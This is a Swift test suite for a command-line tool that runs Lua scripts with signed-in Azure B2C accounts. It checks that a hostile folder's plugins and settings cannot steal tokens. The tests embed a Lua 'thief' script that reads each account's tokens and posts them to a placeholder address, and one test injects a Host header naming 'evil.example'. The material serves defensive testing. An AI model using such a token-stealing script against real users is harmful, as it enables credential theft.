import CommandLineSupport
import Foundation
import HTTPServer
import Synchronization
import Testing

/// Tests of a folder with another person's files, in which a user with accounts runs the program.
@Suite("A folder of somebody else's")
struct HostileFolderTests {
  /// The code of a hostile script in that folder.
  private static let thief = """
    local b2c = require "b2c"
    local function send(what, f, ...)
      local ok, secret = pcall(f, ...)
      print(what, ok and "STOLEN" or secret.code)
      if ok then pcall(b2c.http.post, "ADDRESS/stolen", { body = tostring(secret.reveal and secret:reveal()) }) end
    end
    for _, account in ipairs(b2c.accounts.all()) do
      send("token", account.token, account)
      send("id_token", account.id_token, account)
      send("refresh", account.refresh, account)
      send("request", account.request, account, { url = "ADDRESS/request" })
      send("http", b2c.http.get, "ADDRESS/http", { account = account })
      send("tasks", b2c.tasks.list, { account = account })
      send("again", b2c.accounts.sign_in, { account = account, flow = "client_credentials" })
    end
    return {}
    """

  private static let commands = [
    "help", "help tasks", "plugins", "tasks list", "-e 1", "thief.lua", "token --reveal", "sign-out --everywhere",
  ]

  /// The requests that got to where the settings of the folder lead.
  /// - Parameters:
  ///   - own: changes the settings that the person signs in with.
  ///   - hostile: makes of those the ones of the folder, given an address of its owner's.
  private func stolen(
    own: (String) throws -> String = { $0 }, hostile: (_ settings: String, _ address: String) throws -> String
  ) throws -> [String] {
    let requests = Mutex<[String]>([])
    let server = try HTTPServer { request in
      requests.withLock { $0.append("\(request.path) \(request.header("Authorization") ?? "")") }
      return ServerResponse(text: "[]", type: "application/json")
    }
    defer { server.stop() }
    let tenant = try RunningTenant()
    let settings = try own(tenant.settings)
    try tenant.program.write("settings.plist", settings)
    try tenant.signIn()
    let address = "http://127.0.0.1:\(server.port)"
    try tenant.program.write("hostile/settings.plist", try hostile(settings, address))
    let script = Self.thief.replacing("ADDRESS", with: address)
    try tenant.program.write("hostile/plugins/thief.lua", script)
    try tenant.program.write("hostile/thief.lua", script)
    for command in Self.commands {
      let result = try tenant.program.shell("cd hostile && \"$0\" $1", command)
      #expect(!result.output.contains("STOLEN") && !result.output.contains("eyJ"), "\(command) \(result)")
      if command == "thief.lua" {
        #expect(result.output.hasPrefix("token\tother_provider\nid_token\tother_provider\n"), "\(result)")
      }
    }
    return requests.withLock { $0 }
  }

  private func changed(_ key: String, _ settings: String, to address: String?) throws -> String {
    let path = "/contoso.onmicrosoft.com/oauth2/v2.0/\(key)?p=b2c_1_susi"
    return settings.replacing(
      try Regex("<key>\(key)</key>\\s*<string>[^<]*</string>"),
      with: address.map { "<key>\(key)</key><string>\($0)\(path)</string>" } ?? "")
  }

  @Test("plugins and settings of a folder get no token", arguments: ["taskAPI", "loginURL", "logoutURL", "authURL"])
  func oneSetting(key: String) throws {
    #expect(try stolen { try changed(key, $0, to: $1) } == [])
  }

  @Test("settings that name no more than who they want the tokens of")
  func fewSettings() throws {
    let requests = try stolen { _, address in
      """
      <plist version="1.0"><dict><key>keychain</key><string>com.onmicrosoft.contoso.tasks</string>
      <key>taskAPI</key><string>\(address)</string></dict></plist>
      """
    }
    #expect(requests == [])
  }

  @Test("the metadata document of an account is where its own authURL says")
  func metadata() throws {
    let own = { (settings: String) in try changed("authority", changed("tokenURL", settings, to: nil), to: nil) }
    let requests = try stolen(own: own, hostile: { try changed("authURL", $0, to: $1) })
    #expect(requests == [])
  }

  @Test("a header field of the settings cannot name another host", arguments: ["Host", "hOST"])
  func host(name: String) throws {
    let program = try Program()
    try program.write(
      "settings.json", #"{ "clientID": "app", "customHeaders": { "X-A": "1", "\#(name)": "evil.example" } }"#)
    let result = try program.run("--settings", "settings.json", "-e", "print(settings.clientID)")
    #expect(result.status == 3)
    #expect(
      result.errors.contains(
        "customHeaders.\(name) follows from the address and cannot be given; write the host into the URL"), "\(result)")
  }

  @Test("a person who has moved the task API says so by naming the file, or signs in again")
  func moved() throws {
    let tenant = try RunningTenant()
    try tenant.signIn()
    let other = try RunningTenant()
    let address = try #require(other.settings.firstMatch(of: #/<key>taskAPI<\/key>\s*<string>([^<]*)/#)?.1)
    try tenant.program.write(
      "settings.plist",
      tenant.settings.replacing(
        #/<key>taskAPI<\/key>\s*<string>[^<]*/#, with: "<key>taskAPI</key><string>\(address)"))
    let refused = try tenant.program.run("token")
    #expect(
      refused.errors == """
        b2c-run: account:token: settings.plist names \(address) (taskAPI), which the settings did not that Alice Liddell \
        signed in with
          hint: name the settings it signed in with, --settings FILE, or sign in again

        """)
    #expect(refused.status == 1)
    #expect(try tenant.program.run("--settings", "settings.plist", "token").status == 0)
    #expect(try tenant.program.run("token").status == 1)
    try tenant.signIn()
    #expect(try tenant.program.run("token").status == 0)
  }

  @Test(
    "a folder into which other users can put files holds no accounts, no journals and no state of jobs",
    arguments: [
      ["--store", "open", "secrets", "set", "orders"],
      ["--local", "jobs", "allow", "tidy", "--yes", "--state", "open"],
      ["serve", "--state", "open"], ["jobs", "pause", "tidy", "--state", "open"],
    ])
  func openFolder(arguments: [String]) throws {
    let program = try Program()
    try program.write("jobs/tidy.lua", "local run = require 'b2c'.job { summary = 'Tidies', on = { every = '1h' } }")
    let folder = program.folder.appending(path: "open").path
    try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: false)
    try FileManager.default.setAttributes([.posixPermissions: 0o777], ofItemAtPath: folder)
    let result = try program.run(list: arguments, input: "secret")
    #expect(result.status == 1)
    #expect(result.errors.contains("is not safe: all users may write to it"), "\(result)")
    #expect(result.errors.contains("chmod go-w"), "\(result)")
    #expect(try FileManager.default.contentsOfDirectory(atPath: folder) == [])
  }
}
